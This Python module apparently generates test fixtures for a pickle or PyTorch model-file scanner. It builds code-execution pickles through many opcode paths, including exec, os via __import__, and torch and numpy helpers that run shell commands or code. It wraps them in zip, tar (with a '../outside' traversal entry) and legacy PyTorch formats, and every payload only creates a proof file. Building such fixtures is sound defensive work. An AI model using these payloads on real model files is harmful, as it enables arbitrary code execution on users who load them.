"""Pickles that would run code, in every way that the format knows; each makes a file."""

import io
import pickle
import pickletools
import struct
import tarfile
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

__all__ = ["forms", "pickles"]


class _Call:
    """Calls a function when it is unpickled."""

    def __init__(self, function: Callable[..., Any], *arguments: object) -> None:
        self.call = function, arguments

    def __reduce__(self) -> tuple[Any, ...]:
        return self.call


def _text(value: str) -> bytes:
    return b"X" + struct.pack("<I", len(value.encode())) + value.encode()


def pickles(proof: Path) -> Iterator[tuple[str, bytes]]:
    """(name, pickle) of pickles that create ``proof``, and a dictionary around each."""
    import builtins

    where = str(proof)
    for protocol in range(pickle.HIGHEST_PROTOCOL + 1):
        bomb = _Call(builtins.open, where, "w")
        yield f"reduce, protocol {protocol}", pickle.dumps(bomb, protocol)
        yield f"nested, protocol {protocol}", pickle.dumps({"state_dict": [{"a": bomb}]}, protocol)
        code = _Call(builtins.exec, f"open({where!r}, 'w').close()")
        yield f"exec, protocol {protocol}", pickle.dumps({"net": code}, protocol)
    arguments = b"(" + _text(where) + _text("w")
    yield "GLOBAL REDUCE", b"c__builtin__\nopen\n" + arguments + b"tR."
    yield "GLOBAL of io", b"cio\nopen\n" + arguments + b"tR."
    yield "INST", arguments + b"i__builtin__\nopen\n."
    yield "OBJ", b"(c__builtin__\nopen\n" + arguments[1:] + b"o."
    stack = b"\x80\x04\x8c\x02io\x8c\x04open\x93"
    yield "STACK_GLOBAL", stack + arguments + b"tR."
    yield "NEWOBJ", b"\x80\x02cio\nFileIO\n" + arguments + b"t\x81."
    partial = b"cfunctools\npartial\n(cio\nopen\n" + _text(where) + _text("w") + b"tR(tR."
    yield "partial", partial
    run = f"open({where!r}, 'w').close()"
    yield "BUILD", b"ctorch\nTensor\n(dS'__setstate__'\ncbuiltins\nexec\nsb" + _text(run) + b"b."
    yield (
        "getattr",
        (b"cbuiltins\ngetattr\n(cbuiltins\n__import__\n" + _text("__call__") + b"tR(" + _text("os"))
        + b"tR.",
    )
    yield "torch's own", b"ctorch.utils.collect_env\nrun\n(" + _text(f"touch {where}") + b"tR."
    yield "torch.load", b"ctorch.serialization\nload\n(" + _text(where) + b"tR."
    yield "numpy's", b"cnumpy.testing._private.utils\nrunstring\n(" + _text(run) + b"}tR."
    yield "memo", b"cio\nopen\nq\x00" + arguments + b"tq\x01R0h\x00h\x01R."
    yield "persistent", b"(" + _text("storage") + b"cio\nopen\n" + _text("0") + b"tQ."


def _zip(pickled: bytes, *, beside: bool = False) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr("archive/data.pkl", pickle.dumps({}, 2) if beside else pickled)
        if beside:
            archive.writestr("archive/constants.pkl", pickled)  # what makes it TorchScript
            archive.writestr("archive/code/__torch__.py", "1")
        archive.writestr("archive/byteorder", "little")
        archive.writestr("archive/version", "3\n")
    return made.getvalue()


def _tar(pickled: bytes) -> bytes:
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w") as archive:
        for name in ("storages", "tensors", "pickle", "../outside"):
            info = tarfile.TarInfo(name)
            info.size = len(pickled)
            archive.addfile(info, io.BytesIO(pickled))
    return made.getvalue()


def _legacy(pickled: bytes) -> bytes:
    """PyTorch's stream of before 1.6: a number, a version, the system, the object, its keys."""
    parts = [0x1950A86A20F9469CFC6C, 1001, {"little_endian": True}]
    return b"".join(pickle.dumps(each, 2) for each in parts) + pickled + pickle.dumps([], 2)


def forms(pickled: bytes) -> dict[str, bytes]:
    """The files that such a pickle may come in."""
    return {
        "plain": pickled,
        "zip": _zip(pickled),
        "zip, beside": _zip(pickled, beside=True),
        "tar": _tar(pickled),
        "legacy": _legacy(pickled),
        "legacy, first": pickled + _legacy(pickle.dumps({}, 2)),
    }


def is_whole(pickled: bytes) -> bool:
    """Whether it can be read to its end at all."""
    try:
        list(pickletools.genops(pickled))
    except ValueError:
        return False
    return True
